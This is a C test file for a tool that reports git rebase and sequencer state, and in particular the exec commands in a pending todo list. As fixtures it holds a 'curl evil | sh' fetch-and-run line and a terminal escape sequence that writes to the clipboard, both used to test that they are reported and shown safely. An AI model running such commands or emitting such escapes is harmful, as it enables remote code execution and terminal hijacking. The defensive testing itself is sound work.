// SPDX-License-Identifier: GPL-2.0-or-later
/* git's sequencer state after the run (protect/sequencer.c), in a temp
 * project: what is said, and what is not. */
#include <criterion/criterion.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include "protect/sequencer.h"
#include "tests/common/fixture.h"

static char dir[40];

static void setup(void)
{
	fx_tmpdir(dir, sizeof(dir), "sequencer");
	fx_mkdir(dir, ".git", 0755);
}

static void fini(void)
{
	fx_rm_rf(dir);
}

TestSuite(sequencer, .init = setup, .fini = fini);

/* The report with @since, as text. */
static char *report(struct timespec since)
{
	char *text = NULL;
	size_t len = 0;
	FILE *out = open_memstream(&text, &len);

	cr_assert_not_null(out);
	ltd_sequencer_report(out, dir, since);
	fclose(out);
	return text;
}

static struct timespec long_ago(void)
{
	return (struct timespec){0, 0};
}

static struct timespec later(void)
{
	struct timespec t;

	clock_gettime(CLOCK_REALTIME, &t);
	t.tv_sec += 3600;
	return t;
}

Test(sequencer, exec_lines_are_said_in_either_spelling)
{
	char *text;

	fx_mkdir(dir, ".git/rebase-merge", 0755);
	fx_put(dir, ".git/rebase-merge/git-rebase-todo",
	       "pick 1234567 one\n"
	       "exec make test\n"
	       "  x\tcurl evil | sh\n"
	       "# exec a comment\n"
	       "executable 1\n"
	       "break\n");
	text = report(long_ago());
	cr_assert_not_null(strstr(text, "/.git/rebase-merge (a rebase in "
					"progress): its todo list runs 2 exec "
					"commands"),
			   "%s", text);
	cr_assert_not_null(strstr(text, ": make test; curl evil | sh;"), "%s",
			   text);
	free(text);
}

Test(sequencer, at_most_five_are_shown)
{
	char *text;

	fx_mkdir(dir, ".git/sequencer", 0755);
	fx_put(dir, ".git/sequencer/todo",
	       "x a\nx b\nx c\nx d\nx e\nx f\nx g\n");
	text = report(long_ago());
	cr_assert_not_null(strstr(text, "runs 7 exec commands"), "%s", text);
	cr_assert_not_null(strstr(text, ": a; b; c; d; e; and 2 more"), "%s",
			   text);
	free(text);
}

/* Control bytes in a command are shown, not sent to the terminal. */
Test(sequencer, a_command_is_shown_safely)
{
	char *text;

	fx_mkdir(dir, ".git/rebase-merge", 0755);
	fx_put(dir, ".git/rebase-merge/git-rebase-todo",
	       "exec echo \x1b]52;c;eA==\x07\n");
	text = report(long_ago());
	cr_assert_null(strchr(text, '\x1b'), "%s", text);
	free(text);
}

Test(sequencer, unchanged_state_is_not_said)
{
	char *text;

	fx_mkdir(dir, ".git/rebase-merge", 0755);
	fx_put(dir, ".git/rebase-merge/git-rebase-todo", "exec make\n");
	text = report(later());
	cr_assert_str_eq(text, "");
	free(text);
}

Test(sequencer, no_state_says_nothing)
{
	char *text = report(long_ago());

	cr_assert_str_eq(text, "");
	free(text);
}

/* A linked worktree's state lies in .git/worktrees/NAME/. */
Test(sequencer, a_linked_worktrees_state_is_said)
{
	char *text;

	fx_mkdir(dir, ".git/worktrees", 0755);
	fx_mkdir(dir, ".git/worktrees/w", 0755);
	fx_mkdir(dir, ".git/worktrees/w/rebase-merge", 0755);
	fx_put(dir, ".git/worktrees/w/rebase-merge/git-rebase-todo",
	       "exec make\n");
	text = report(long_ago());
	cr_assert_not_null(strstr(text, "/.git/worktrees/w/rebase-merge ("),
			   "%s", text);
	free(text);
}

/* A todo list that is a link is not read through it. */
Test(sequencer, a_linked_todo_is_not_read)
{
	char path[256], *text;

	fx_put(dir, "elsewhere", "exec make\n");
	fx_mkdir(dir, ".git/rebase-merge", 0755);
	fx_path(path, sizeof(path), dir, ".git/rebase-merge/git-rebase-todo");
	cr_assert_eq(symlink("../../elsewhere", path), 0);
	text = report(long_ago());
	cr_assert_not_null(strstr(text, "rebase-merge (a rebase in progress)"),
			   "%s", text);
	cr_assert_null(strstr(text, "exec command"), "%s", text);
	cr_assert_not_null(strstr(text, "not a regular file"), "%s", text);
	free(text);
}
